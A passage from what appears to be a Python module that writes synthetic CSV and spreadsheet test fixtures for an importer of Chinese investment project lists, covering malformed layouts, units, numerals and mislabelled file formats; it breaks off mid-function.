# Groups and batches told only by their count, as announcements list them beside the named projects.
COUNTED_GROUPS = """项目名称,建设地点,计划总投资
集中签约项目（3个）,江苏省连云港市,30亿元
连云港动力电池项目,江苏省连云港市,8亿元
1至10月新增签约项目（113个）,,541.05亿元
连云港新材料项目,江苏省连云港市,12亿元
其中外资项目（4个）,,1.55亿美元
"""

# A county or city list names its place once, in the title, and has no location column.
PLACE_IN_TITLE = """徐州市2024年第一批重大项目集中签约清单
序号,项目名称,签约企业,协议投资额
1,徐州工程机械零部件项目,徐州某机械有限公司,5亿元
2,徐州光伏组件项目,徐州某新能源有限公司,3000万美元
"""

# Sites written as a county's short name with its development zone or park, under a 落户地 header.
ZONE_PLACES = """项目名称,落户地,总投资（万元）
义乌园区项目,义乌经济技术开发区,1000
长兴园区项目,长兴经济开发区,2000
江华园区项目,江华高新区,3000
江华县城项目,江华县,4000
慈溪园区项目,慈溪滨海经济开发区,5000
"""

# A city's list with a location column whose cells name sites inside the city the index cannot know (经开区,
# a park) or are empty: the title's place, said per row; a cell naming a known place still wins.
TITLE_PLACE_ROWS = """徐州市2024年重点产业项目计划
项目名称,所在地,总投资（万元）
徐州经开区装备项目,经开区,1000
徐州铜山电子项目,铜山区,2000
徐州空地点项目,,3000
南京材料项目,江苏省南京市,4000
"""


def write_lists() -> None:
    (HERE / "group_numerals.csv").write_bytes(GROUP_NUMERALS.replace("\n", "\r\n").encode("gbk"))
    (HERE / "batch_column.csv").write_bytes(BATCH_COLUMN.encode("utf-8"))
    (HERE / "counted_groups.csv").write_bytes(COUNTED_GROUPS.encode("utf-8"))
    (HERE / "place_in_title.csv").write_bytes(PLACE_IN_TITLE.encode("gbk"))
    (HERE / "zone_places.csv").write_bytes(ZONE_PLACES.encode("utf-8"))
    (HERE / "title_place_rows.csv").write_bytes(TITLE_PLACE_ROWS.encode("gbk"))


# ------------------------------------------------------------------------------ residuals (session 22)
# Classes the real-list rounds left open: one synthetic file each; tests/test_import_residuals.py.

# A 类别 column of stage words (促开工, 如期投产: a list's stage groups written row by row) was read as the
# sector (every cell "not recognised") and the stage left empty.
STAGE_CATEGORY = """项目名称,建设地点,总投资（万元）,类别
南京晶圆封装项目,江苏省南京市,1000,促开工
苏州储能电池项目,江苏省苏州市,2000,续建
无锡光伏组件项目,江苏省无锡市,3000,如期投产
常州创新药项目,江苏省常州市,4000,新开工
徐州工程机械项目,江苏省徐州市,5000,竣工
扬州新材料项目,江苏省扬州市,6000,前期
"""

# Beside a stage column (建设性质), a 项目类型 column of stage words is an extra column, not the sector; an
# unmapped 推进情况 column of stage words is the stage where no column is; a 类别 of sector names stays sector.
STAGE_BESIDE_STAGE = """项目名称,建设地点,总投资（万元）,建设性质,项目类型
南京传感器项目,江苏省南京市,1000,新建,促开工
苏州机器人项目,江苏省苏州市,2000,扩建,续建
无锡氢能项目,江苏省无锡市,3000,前期,如期投产
"""
PROGRESS_AND_SECTOR = """项目名称,建设地点,总投资（万元）,推进情况,类别
南京算力中心项目,江苏省南京市,1000,促开工,新一代信息技术
苏州动力电池项目,江苏省苏州市,2000,续建,新能源
无锡碳纤维项目,江苏省无锡市,3000,竣工,新材料
常州医疗器械项目,江苏省常州市,4000,,生物
"""

# A city's list whose title names the city after other words, its sites written as districts: 鼓楼区 (in
# 南京, 徐州, 福州 and 开封) got the province only, or nothing; a cell naming another city keeps it.
TITLE_CITY_DISTRICT = """关于印发2024年徐州市重大产业项目清单的通知
项目名称,所在地,总投资（万元）
徐州鼓楼装备项目,鼓楼区,1000
徐州云龙电子项目,云龙区,2000
南京鼓楼芯片项目,南京市鼓楼区,3000
徐州空地点项目,,4000
"""

# A province's abbreviation before another province's city (苏/杭州) was read as that city without a word.
ABBREVIATION_OTHER_PROVINCE = """项目名称,建设地点,总投资（万元）
苏杭储能项目,苏/杭州,1000
浙苏芯片项目,浙·苏州,2000
苏锡封装项目,苏·无锡,3000
京冀装备项目,京/石家庄市,4000
"""

# 雄安新区 is in no division code list regions.csv was built from: every row naming it was refused.
XIONGAN = """项目名称,建设地点,总投资（万元）
雄安数字城市项目,雄安新区,1000
雄安启动区项目,河北省雄安新区,2000
冀雄安项目,冀/雄安新区,3000
雄安英文项目,Xiong'an New Area,4000
雄县项目,河北省保定市雄县,5000
"""

# A place cell listing several places (a project across cities or provinces): each list separator, a space,
# and, beside them, a city's name inside one place (a street, 杭州市湖州街) that is no list.
SEVERAL_PLACES = """项目名称,建设地点,总投资（万元）
宁徐储能项目,南京市、徐州市,1000
京津装备项目,北京市/天津市,2000
湖州街项目,杭州市拱墅区湖州街,3000
苏杭芯片项目,江苏省苏州市，浙江省杭州市,4000
江宁溧水项目,南京市江宁区、溧水区,5000
汉襄汽车项目,湖北 武汉 襄阳,6000
南京路项目,上海市黄浦区南京东路,7000
"""


def write_resid() -> None:
    (HERE / "stage_category.csv").write_bytes(STAGE_CATEGORY.encode("utf-8"))
    (HERE / "stage_beside_stage.csv").write_bytes(STAGE_BESIDE_STAGE.encode("gbk"))
    (HERE / "progress_and_sector.csv").write_bytes(PROGRESS_AND_SECTOR.encode("utf-8"))
    (HERE / "title_city_district.csv").write_bytes(TITLE_CITY_DISTRICT.encode("gbk"))
    (HERE / "abbreviation_other_province.csv").write_bytes(ABBREVIATION_OTHER_PROVINCE.encode("utf-8"))
    (HERE / "xiongan.csv").write_bytes(XIONGAN.encode("utf-8"))
    (HERE / "several_places.csv").write_bytes(SEVERAL_PLACES.encode("gbk"))


# ------------------------------------------------------------------------------ s23-hostile4
# Header units with a multiplier (千元, 十亿元), a unit on its own row under the header, a table under 40
# note rows, a workbook with one sheet per city, and files that are no table the import reads (Numbers,
# OpenDocument, Word, PDF, encrypted Office). The .xls files and the encrypted workbook are committed:
# write_legacy4 needs ``pip install xlwt msoffcrypto-tool`` in a scratch venv (python3 -m venv /tmp/xlwtenv;
# xlwt 1.3.0, msoffcrypto-tool 5.x), never in the project's requirements.

UNIT_MULTIPLIERS = """项目名称,建设地点,总投资（千元）,建设起止年限
南京集成电路封装项目,江苏省南京市,120000,2024-2026
杭州生物医药产业园项目,浙江省杭州市,1.2十亿元,2025-2027
合肥动力电池项目,安徽省合肥市,3千美元,2024-2025
"""

UNIT_ROW_BELOW_HEADER = """项目名称,建设地点,总投资,年度计划投资,建设起止年限
,,（亿元）,（万元）,
南京集成电路封装项目,江苏省南京市,1.2,3000,2024-2026
杭州生物医药产业园项目,浙江省杭州市,0.5,1000,2025-2027
"""

CITY_SHEETS = [("南京市", [["南京集成电路封装项目", "江苏省南京市", 12000, "2024-2026"],
                          ["南京储能电站项目", "江苏省南京市", 3000, "2024-2025"]]),
               ("杭州市", [["杭州生物医药产业园项目", "浙江省杭州市", 5000, "2025-2027"]]),
               ("合肥市", [["合肥动力电池项目", "安徽省合肥市", 80000, "2024-2025"]])]


def _zip(members: dict[str, bytes]) -> bytes:
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def write_hostile4() -> None:
    import openpyxl

    (HERE / "unit_multipliers.csv").write_bytes(UNIT_MULTIPLIERS.encode("gbk"))
    (HERE / "unit_row_below_header.csv").write_bytes(UNIT_ROW_BELOW_HEADER.encode("utf-8"))
    notes = "".join(f"第{i}条：本表由各县（市、区）发展改革部门填报，数据截至上月末。\n" for i in range(1, 41))
    (HERE / "header_below_30.csv").write_bytes(
        (notes + "序号,项目名称,建设地点,总投资（万元）,建设起止年限\n"
         "1,南京集成电路封装项目,江苏省南京市,12000,2024-2026\n").encode("gbk"))
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in CITY_SHEETS:
        ws = book.create_sheet(title)
        ws.append(["项目名称", "建设地点", "总投资（万元）", "建设起止年限"])
        for row in rows:
            ws.append(row)
    book.save(HERE / "city_sheets.xlsx")
    book = openpyxl.Workbook()  # rows 3 and 4 hidden (4 by the filter): read, and said
    ws = book.active
    ws.title = "项目"
    ws.append(["项目名称", "建设地点", "总投资（万元）", "建设起止年限"])
    for _title, rows in CITY_SHEETS:
        for row in rows:
            ws.append(row)
    ws.auto_filter.ref = "A1:D5"
    ws.row_dimensions[3].hidden = True
    ws.row_dimensions[4].hidden = True
    book.save(HERE / "hidden_rows.xlsx")
    # A style on the sheet's last cell (XFD1048576), as "format the whole sheet" leaves: the dimension says
    # A1:XFD1048576 and the cell holds no value.
    from openpyxl.styles import Font

    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["项目名称", "建设地点", "总投资（万元）", "建设起止年限"])
    ws.append(CITY_SHEETS[0][1][0])
    ws.cell(1_048_576, 16_384).font = Font(bold=True)
    book.save(HERE / "formatted_last_cell.xlsx")
    # Not tables: each stands for the real format by what identifies it (the package's parts, the magic).
    (HERE / "apple_numbers.numbers").write_bytes(_zip({"Index/Document.iwa": b"\x00" * 64,
                                                       "Metadata/Properties.plist": b"bplist00"}))
    (HERE / "opendocument.ods").write_bytes(_zip({
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
                       b'opendocument:xmlns:office:1.0"/>'}))
    (HERE / "word_as_xlsx.xlsx").write_bytes(_zip({"[Content_Types].xml": b"<Types/>",
                                                   "word/document.xml": b"<w:document/>"}))
    (HERE / "pdf_as_csv.csv").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n" + bytes(range(256)) * 4)
    try:
        write_legacy4()
    except ImportError:  # xlwt and msoffcrypto-tool only regenerate the committed files
        pass


def write_legacy4() -> None:
    """legacy_merged_dates.xls (a merged title and unit line, a two-row merged header, the place merged down
    the rows, date cells, amounts as text), legacy_city_sheets.xls (one sheet per city) and
    encrypted.xlsx (city_sheets.xlsx with the password 'secret')."""
    import io

    import msoffcrypto.format.ooxml
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("重点项目")
    date = xlwt.easyxf(num_format_str="yyyy-mm-dd")
    ws.write_merge(0, 0, 0, 6, "2024年南京市重大产业项目计划表")
    ws.write_merge(1, 1, 0, 6, "单位：亿元")
    for col, text in enumerate(["序号", "项目名称", "建设地点"]):
        ws.write_merge(2, 3, col, col, text)
    ws.write_merge(2, 2, 3, 4, "投资")
    ws.write(3, 3, "总投资")
    ws.write(3, 4, "2024年计划")
    ws.write_merge(2, 2, 5, 6, "建设年限")
    ws.write(3, 5, "开工时间")
    ws.write(3, 6, "竣工时间")
    ws.write_merge(4, 6, 2, 2, "江苏省南京市")
    rows = [("1", "南京集成电路封装项目", "1.2", "0.5", dt.date(2024, 3, 1), dt.date(2026, 12, 31)),
            ("2", "南京生物医药产业园项目", "0.5", "0.2", dt.date(2025, 1, 1), dt.date(2027, 6, 30)),
            ("3", "南京动力电池项目", "8", "3", dt.date(2024, 5, 1), dt.date(2025, 12, 31))]
    for r, (seq, name, total, plan, start, end) in enumerate(rows, 4):
        for col, value in ((0, seq), (1, name), (3, total), (4, plan)):
            ws.write(r, col, value)
        ws.write(r, 5, start, date)
        ws.write(r, 6, end, date)
    book.save(str(HERE / "legacy_merged_dates.xls"))
    book = xlwt.Workbook(encoding="utf-8")
    for title, rows in CITY_SHEETS:
        ws = book.add_sheet(title)
        for col, text in enumerate(["项目名称", "建设地点", "总投资（万元）", "建设起止年限"]):
            ws.write(0, col, text)
        for r, row in enumerate(rows, 1):
            for col, value in enumerate(row):
                ws.write(r, col, value)
    book.save(str(HERE / "legacy_city_sheets.xls"))
    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("项目")
    for col, text in enumerate(["项目名称", "建设地点", "总投资（万元）", "建设起止年限"]):
        ws.write(0, col, text)
    for r, row in enumerate((row for _title, rows in CITY_SHEETS for row in rows), 1):
        for col, value in enumerate(row):
            ws.write(r, col, value)
    ws.row(2).hidden = True  # row 3 as Excel numbers it
    book.save(str(HERE / "legacy_hidden_rows.xls"))
    plain = io.BytesIO((HERE / "city_sheets.xlsx").read_bytes())
    with open(HERE / "encrypted.xlsx", "wb") as out:
        msoffcrypto.format.ooxml.OOXMLFile(plain).encrypt("secret", out)


# ------------------------------------------------------------------------------ real lists, round 2 (s23)
# Classes a second round of real published lists found: one synthetic file each; tests/test_import_lists2.py.

# A county's list whose place column is headed 所在区 / 所在县 (the district alone) and whose companies are
# under 签约单位: the whole file was refused ("no location column") and the companies kept as an extra.
DISTRICT_HEADER = """项目名称,签约单位,所在县,总投资（亿元）
江宁芯片封装项目,南京某电子有限公司,江宁区,12
宜兴储能电池项目,无锡某能源有限公司,宜兴市,8.5
"""
# A signing list whose sites are under 选址 (a county's short name with its park): refused as above.
SITE_HEADER = """项目名称,计划总投资,选址
惠东新能源项目,25亿元,惠东县
博罗储能项目,4亿元,博罗高新区
"""
# A free-trade zone's list: its title names the place only in brackets after 中国 (中国（江苏）自由贸易试验区…),
# so every row was refused; its stage column says 新开 (新开工, cut short): "not recognised", left empty.
FTZ_TITLE = """中国（江苏）自由贸易试验区苏州片区2025年重大项目清单
序号,项目名称,建设性质,总投资（亿元）
1,苏州片区纳米材料项目,新开,20
2,苏州片区生物药项目,续建,30
"""
# A 合计 printed as the table's first row (as many lists do): it was compared with the rows above it (none),
# so the warning said the projects add up to 0.00 万元 whatever they held.
TOTAL_FIRST = """项目名称,建设地点,总投资（万元）
合计,,3000
南京传感器项目,江苏省南京市,1000
苏州机器人项目,江苏省苏州市,1500
"""
# A 建设期限 column of one year said to be the end (2024年底完成…, 2025年前建成投产, 2026年6月竣工): read as the
# start year (a project finishing in 2024 was stored as starting then, with no end year).
END_YEAR_PHRASES = """项目名称,建设地点,总投资（万元）,建设期限
南京一期主体项目,江苏省南京市,1000,2024年底完成一期主体建设
苏州建成投产项目,江苏省苏州市,2000,2025年前建成投产
无锡竣工项目,江苏省无锡市,3000,2026年6月竣工
常州开工项目,江苏省常州市,4000,2024年3月底开工
徐州起止项目,江苏省徐州市,5000,2023-2025
扬州单年项目,江苏省扬州市,6000,2024年
"""

# A group heading without a numeral, its text alone in a column left of the name (merged over 序号 and 产业 in
# the publisher's sheet) and counting its projects before its totals: the row was refused ("name empty"),
# and with it the whole file.
LONE_GROUP_TEXT = """西安高新区重点项目
序号,产业,项目名称,总投资（亿元）
,"“实力高新”重点项目155个（在建118个，总投资1743亿元）",,
1,电子信息,西安硅产业基地项目,100
2,生物医药,西安创新药物产业园,20
,本表项目由各责任单位填报,,
"""

# A 项目个数 column beside the name: rows counting more than one project are categories, numbered (3) or not,
# and each was stored as a project carrying its category's total (39 and 11 亿元 too many). One counting 1,
# or nothing, stays a project.
COUNT_COLUMN = """房县2021年第一季度重大项目表
序号,项目名称,项目个数,总投资（亿元）
,合计,12,58
,重大产业转型升级类,6,39
1,房县农产品物流园项目,1,5
2,房县再生铅项目,1,3
3,重大基础设施建设类,3个,11
4,房县国道改建项目,,2
"""

# Projects numbered 一、二、三 in the 序号 column, nothing numbered 1, 2, 3 (a county's 集中开工 list): each read as
# a group heading, so no project was left and the file was refused ("no project rows").
NUMERAL_PROJECTS = """周口市2020年第一批重点项目集中开工项目
序号,项目名称,总投资,年度计划投资
,合计（3个）,10亿元,8亿元
一,周口防水材料有限公司年产1500万平方米防水卷材项目,3亿元,2.5亿元
二,周口制衣有限公司年产5000万件服装加工项目,5亿元,4.5亿元
三,周口桥涵工程建设项目(一期),2亿元,1亿元
"""

# A list drawn up in December for the next year: the title names 2022, the plan column 2023年预计完成投资. The
# column was kept as an extra ("完成投资" read as money spent), and a 2023年计划投资 column's amounts were
# stored as the plan of 2022 (the title's year won over the column's own).
PLAN_EXPECTED = """重庆市2022年工业重大项目集中开工项目
项目名称,总投资（亿元）,2023年预计完成投资（亿元）
重庆储能电池项目,130,60
重庆负极材料项目,10,4
"""
PLAN_YEAR_HEADER = """重庆市2022年工业重大项目集中开工项目
项目名称,总投资（亿元）,2023年计划投资（亿元）
重庆储能电池项目,130,60
重庆负极材料项目,10,4
"""


def write_lists2() -> None:
    (HERE / "district_header.csv").write_bytes(DISTRICT_HEADER.encode("gbk"))
    (HERE / "site_header.csv").write_bytes(SITE_HEADER.encode("utf-8"))
    (HERE / "ftz_title.csv").write_bytes(FTZ_TITLE.replace("\n", "\r\n").encode("gbk"))
    (HERE / "total_first.csv").write_bytes(TOTAL_FIRST.encode("utf-8"))
    (HERE / "end_year_phrases.csv").write_bytes(END_YEAR_PHRASES.encode("utf-8"))
    (HERE / "lone_group_text.csv").write_bytes(LONE_GROUP_TEXT.encode("utf-8"))
    (HERE / "count_column.csv").write_bytes(COUNT_COLUMN.encode("gbk"))
    (HERE / "numeral_projects.csv").write_bytes(NUMERAL_PROJECTS.encode("gbk"))
    (HERE / "plan_expected.csv").write_bytes(PLAN_EXPECTED.encode("utf-8"))
    (HERE / "plan_year_header.csv").write_bytes(PLAN_YEAR_HEADER.encode("gbk"))


# ------------------------------------------------------------------------------ s24-imports5
# A workbook with one project table per city, read as ONE import: a notes sheet, three city sheets of one
# layout (杭州市's amounts in 亿元), a 汇总 sheet and an unnamed list of every project (both repeat the
# cities' rows), and a sheet of another layout (no 建设起止年限, an extra 建设性质). Then the same cities with
# one bad amount on 杭州市's second row, and a project listed on two city sheets.

SHEETS_HEAD = ["序号", "项目名称", "建设地点", "总投资（万元）", "建设起止年限"]
SHEETS_CITIES = [
    ("南京市", "总投资（万元）", [["南京集成电路封装项目", "江苏省南京市", 12000, "2024-2026"],
                           ["南京储能电站项目", "江苏省南京市", 3000, "2024-2025"]]),
    ("杭州市", "总投资（亿元）", [["杭州生物医药产业园项目", "浙江省杭州市", 0.5, "2025-2027"]]),
    ("合肥市", "总投资（万元）", [["合肥动力电池项目", "安徽省合肥市", 80000, "2024-2025"]]),
]


def _city_sheet(book, title: str, amount_head: str, rows: list[list], head_note: str | None = None) -> None:  # noqa: ANN001
    ws = book.create_sheet(title)
    if head_note:
        ws.append([head_note])
    ws.append([*SHEETS_HEAD[:3], amount_head, SHEETS_HEAD[4]])
    for i, row in enumerate(rows, start=1):
        ws.append([i, *row])


# Amounts in Chinese numerals, read by the digits' unit rules (a bare numeral takes the header's 万元), beside
# a plain amount; then what stays refused: malformed numerals, a European decimal comma, an accounting
# negative. Row 2 is the header.
CHINESE_NUMERALS = """项目名称,建设地点,总投资（万元）,建设起止年限
南京集成电路封装项目,江苏省南京市,三千万元,2024-2026
杭州生物医药产业园项目,浙江省杭州市,一亿二千万元,2025-2027
合肥动力电池项目,安徽省合肥市,1.2万亿元,2024-2025
苏州纳米材料项目,江苏省苏州市,两亿元,2024-2026
无锡物联网产业园项目,江苏省无锡市,五百万元,2024-2025
常州储能电站项目,江苏省常州市,3千万元,2025-2026
宁波新材料项目,浙江省宁波市,约5千万,2024-2026
温州智能装备项目,浙江省温州市,壹亿贰仟万元,2024-2026
嘉兴数据中心项目,浙江省嘉兴市,三点五亿元,2025-2027
绍兴集成电路项目,浙江省绍兴市,三千,2024-2026
湖州新能源汽车项目,浙江省湖州市,三至五亿元,2024-2026
金华光伏组件项目,浙江省金华市,12000,2024-2026
台州生物医药项目,浙江省台州市,三三千万元,2024-2026
芜湖机器人项目,安徽省芜湖市,1万5,2024-2026
蚌埠显示材料项目,安徽省蚌埠市,"1.234,56",2024-2026
淮南氢能项目,安徽省淮南市,"(1,234)",2024-2026
"""


# A list whose title names only a town (the place index goes down to counties): without a place column it
# is refused saying what to add; a note under the table naming the town with its city places it; a place
# column of sites the index cannot know says the same per file. Synthetic names.
TOWN_TITLE = """黄圃镇2024年重点项目清单
项目名称,总投资（万元）,建设起止年限
黄圃食品产业园项目,12000,2024-2026
黄圃智能家电项目,5000,2024-2025
"""
TOWN_TITLE_NOTE = TOWN_TITLE + "注：填报单位为中山市黄圃镇人民政府\n"
TOWN_TITLE_SITES = """黄圃镇2024年重点项目清单
项目名称,建设地点,总投资（万元）,建设起止年限
黄圃食品产业园项目,马新工业区,12000,2024-2026
"""


def write_imports5() -> None:
    import openpyxl

    book = openpyxl.Workbook()
    book.active.title = "填报说明"
    book.active.append(["本表按城市分页填报，金额单位见各表表头。"])
    for title, head, rows in SHEETS_CITIES:
        _city_sheet(book, title, head, rows, head_note=f"{title}2025年重点项目")
    every = [r for _t, _h, rows in SHEETS_CITIES for r in rows]
    every_wan = [[n, p, a * 10000 if isinstance(a, float) else a, y] for n, p, a, y in every]
    _city_sheet(book, "汇总", "总投资（万元）", every_wan)
    _city_sheet(book, "全部项目", "总投资（万元）", every_wan)
    ws = book.create_sheet("苏州市")  # another layout: a stage column, no years
    ws.append(["项目名称", "建设地点", "总投资（万元）", "建设性质"])
    ws.append(["苏州纳米材料项目", "江苏省苏州市", 6000, "新建"])
    book.save(HERE / "sheets_one_import.xlsx")

    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, head, rows in SHEETS_CITIES:
        if title == "杭州市":
            rows = [*rows, ["杭州数字经济产业园项目", "浙江省杭州市", "1,2,3", "2025-2026"]]
        _city_sheet(book, title, head, rows)
    book.save(HERE / "sheets_bad_row.xlsx")

    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, head, rows in SHEETS_CITIES:
        if title == "合肥市":  # 南京's first project again, on 合肥's sheet
            rows = [*rows, SHEETS_CITIES[0][2][0]]
        _city_sheet(book, title, head, rows)
    book.save(HERE / "sheets_duplicate.xlsx")
    (HERE / "chinese_numerals.csv").write_bytes(CHINESE_NUMERALS.encode("gbk"))
    (HERE / "town_title.csv").write_bytes(TOWN_TITLE.encode("gbk"))
    (HERE / "town_title_note.csv").write_bytes(TOWN_TITLE_NOTE.encode("utf-8"))
    (HERE / "town_title_sites.csv").write_bytes(TOWN_TITLE_SITES.encode("gbk"))


# Fifth hostile round (s25-hostile5): classes an outside tester's files reached that the corpus had not.
# Currencies with no rate (港元, 日元, 欧元) in a header, a unit column and a cell: were read as 万元, silently
# (10亿日元 stored as 10万元 under 投资额（亿日元）, the unit column dropped as "not money").
CURRENCY_HEADER = """项目名称,建设地点,总投资（万港元）,建设起止年限
深港科创合作项目,广东省深圳市,5000,2024-2026
前海金融科技项目,广东省深圳市,—,2025-2027
"""
CURRENCY_UNITS = """项目名称,建设地点,总投资,单位,建设起止年限
深圳港资电子项目,广东省深圳市,5000,万港元,2024-2026
苏州日资精密项目,江苏省苏州市,10,亿日元,2024-2025
太仓德资装备项目,江苏省苏州市,300,万欧元,2025-2026
南京内资芯片项目,江苏省南京市,3000,万元,2024-2026
无锡外资材料项目,江苏省无锡市,300万欧元,,2024-2026
"""
# A list in two parts, the second under its own header in 亿元 (续建项目 in 亿元 under 新开工 in 万元): its rows
# were read in the first header's 万元, 10,000 times too small, the header row skipped as a repeat.
REPEATED_HEADER_UNITS = """一、新开工项目
序号,项目名称,建设地点,总投资（万元）,建设起止年限
1,南京集成电路封装项目,江苏省南京市,12000,2024-2026
2,杭州生物医药产业园项目,浙江省杭州市,5000,2025-2027

二、续建项目
序号,项目名称,建设地点,总投资（亿元）,建设起止年限
1,合肥动力电池项目,安徽省合肥市,8,2023-2025
2,芜湖储能电站项目,安徽省芜湖市,1.5,2023-2024
"""
# ="12000": the one-string formula exporters write so that Excel keeps text as text (every amount refused).
EXCEL_TEXT_FORMULAS = """序号,项目名称,建设地点,总投资（万元）,建设起止年限
1,南京集成电路封装项目,江苏省南京市,="12000",="2024-2026"
2,杭州生物医药产业园项目,浙江省杭州市,="5000",2025-2027
"""
# A sign-off line under the table (填报单位：… 制表人：…, a date) refused the whole file (its name cell empty).
SIGNOFF_FOOTER = """序号,项目名称,建设地点,总投资（万元）,建设起止年限
1,南京集成电路封装项目,江苏省南京市,12000,2024-2026
2,杭州生物医药产业园项目,浙江省杭州市,5000,2025-2027

填报单位：某某市发展和改革委员会,,,制表人：张三,2024年3月1日
审核人：李四,,联系电话：025-12345678,,
"""
# Years written digit by digit in Chinese numerals, as official documents date themselves (were left empty).
NUMERAL_YEARS = """项目名称,建设地点,总投资（万元）,建设起止年限,开工年份
南京汉字年份项目,江苏省南京市,1000,二〇二四至二〇二六年,
苏州汉字开工项目,江苏省苏州市,2000,,二〇二五
无锡零字年份项目,江苏省无锡市,3000,二零二四年—二零二七年,
"""
# The same project typed once in full-width letters (ＡＢＣ) and once in half-width (ABC): stored twice; and a
# soft hyphen inside a name (invisible, kept).
WIDTH_DUPLICATES = """项目名称,建设地点,总投资（万元）,建设起止年限
ＡＢＣ新材料项目,江苏省南京市,1000,2024-2026
ABC新材料项目,江苏省南京市,1000,2024-2026
５Ｇ基站建设项目,江苏省苏州市,2000,2024-2026
软\u00ad连字符储能项目,江苏省无锡市,3000,2024-2026
"""
HOSTILE5_HEAD = ["序号", "项目名称", "建设地点", "总投资（万元）", "建设起止年限"]
HOSTILE5_ROWS = [[1, "南京集成电路封装项目", "江苏省南京市", 12000, "2024-2026"],
                 [2, "杭州生物医药产业园项目", "浙江省杭州市", 5000, "2025-2027"]]


def _spreadsheetml(rows: list[list]) -> str:
    """Excel's "XML Spreadsheet 2003", as web systems export it (here named .xls)."""
    out = ['<?xml version="1.0" encoding="UTF-8"?>', '<?mso-application progid="Excel.Sheet"?>',
           '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
           'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">',
           '<Worksheet ss:Name="项目清单"><Table>',
           '<Row><Cell ss:MergeAcross="4"><Data ss:Type="String">2024年重点项目表</Data></Cell></Row>']
    for row in rows:
        cells = "".join(f'<Cell><Data ss:Type="{"Number" if isinstance(v, int) else "String"}">{v}</Data></Cell>'
                        for v in row)
        out.append(f"<Row>{cells}</Row>")
    out.append('<Row ss:Index="9"><Cell ss:Index="2"><Data ss:Type="String">合肥动力电池项目</Data></Cell>'
               '<Cell><Data ss:Type="String">安徽省合肥市</Data></Cell><Cell><Data ss:Type="Number">80000</Data>'
               '</Cell><Cell><Data ss:Type="String">2024-2025</Data></Cell></Row>')
    out.append("</Table></Worksheet></Workbook>")
    return "\n".join(out)


def _mht(rows: list[list]) -> bytes:
    """Excel's "single file web page" (.mht): a MIME archive whose HTML part, quoted-printable, holds the table."""
    import quopri

    html = "<html><body><table>" + "".join(
        "<tr>" + "".join(f"<td>{v}</td>" for v in r) + "</tr>" for r in rows) + "</table></body></html>"
    return (b'MIME-Version: 1.0\r\nX-Document-Type: Workbook\r\nContent-Type: multipart/related; '
            b'boundary="----=_NextPart_01D0"\r\n\r\n------=_NextPart_01D0\r\nContent-Location: file:///C:/x/sheet001.htm\r\n'
            b'Content-Transfer-Encoding: quoted-printable\r\nContent-Type: text/html; charset="utf-8"\r\n\r\n'
            + quopri.encodestring(html.encode("utf-8")) + b"\r\n------=_NextPart_01D0--\r\n")


def write_hostile5() -> None:
    import gzip

    import openpyxl
    from openpyxl.worksheet.table import Table, TableStyleInfo

    (HERE / "currency_header.csv").write_bytes(CURRENCY_HEADER.encode("utf-8"))
    (HERE / "currency_units.csv").write_bytes(CURRENCY_UNITS.encode("gbk"))
    (HERE / "repeated_header_units.csv").write_bytes(REPEATED_HEADER_UNITS.encode("gbk"))
    (HERE / "excel_text_formulas.csv").write_bytes(EXCEL_TEXT_FORMULAS.encode("utf-8"))
    (HERE / "signoff_footer.csv").write_bytes(SIGNOFF_FOOTER.encode("gbk"))
    (HERE / "numeral_years.csv").write_bytes(NUMERAL_YEARS.encode("utf-8"))
    (HERE / "width_duplicates.csv").write_bytes(WIDTH_DUPLICATES.encode("utf-8"))
    # What the cells show, not their bare numbers: a unit in the number format (1.2 shown 1.20亿元; yuan shown
    # in 百万 by #,##0,,"百万") under a header without one (read as 1.2 万元), a share shown 50% (stored as 0.5
    # 万元), a date where an amount was typed (3-5 turned into 5 March by Excel: read as "the range 2026-3").
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "项目"
    ws.append(["序号", "项目名称", "建设地点", "总投资", "建设起止年限"])
    ws.append([1, "南京集成电路封装项目", "江苏省南京市", 1.2, "2024-2026"])
    ws.append([2, "杭州生物医药产业园项目", "浙江省杭州市", 50000000, "2025-2027"])
    ws.append([3, "合肥动力电池项目", "安徽省合肥市", 0.5, "2024-2025"])
    ws.append([4, "芜湖储能电站项目", "安徽省芜湖市", dt.datetime(2026, 3, 5), "2024-2025"])
    ws.append([5, "常州光伏组件项目", "江苏省常州市", 3000, "2024-2025"])
    ws["D2"].number_format = '0.00"亿元"'
    ws["D3"].number_format = '#,##0,,"百万"'
    ws["D4"].number_format = "0%"
    ws["D6"].number_format = '#,##0"万元"'
    book.save(HERE / "shown_amounts.xlsx")
    # An Excel table (ListObject) with its totals row: 汇总 in the first column, SUBTOTAL beside it (no saved
    # result: written by a program). The row was a nameless project and refused the file.
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "项目"
    ws.append(HOSTILE5_HEAD)
    for row in HOSTILE5_ROWS:
        ws.append(row)
    ws.append(["汇总", None, None, "=SUBTOTAL(109,D2:D3)", None])
    table = Table(displayName="项目表", ref="A1:E4", totalsRowCount=1)
    table.tableStyleInfo = TableStyleInfo(name="TableStyleMedium9")
    ws.add_table(table)
    book.save(HERE / "table_totals_row.xlsx")
    # Formats read, or named with what to do (were "damaged or password-protected", "the file is empty",
    # "no header found"): an XML Spreadsheet 2003 and a single-file web page are read; a binary workbook
    # (.xlsb), a Strict Open XML workbook and archives (.zip, .gz) are named.
    (HERE / "spreadsheetml_2003.xls").write_bytes(_spreadsheetml([HOSTILE5_HEAD, *HOSTILE5_ROWS]).encode("utf-8"))
    (HERE / "single_file_web.mht").write_bytes(_mht([HOSTILE5_HEAD, *HOSTILE5_ROWS]))
    (HERE / "binary_workbook.xlsb").write_bytes(_zip({
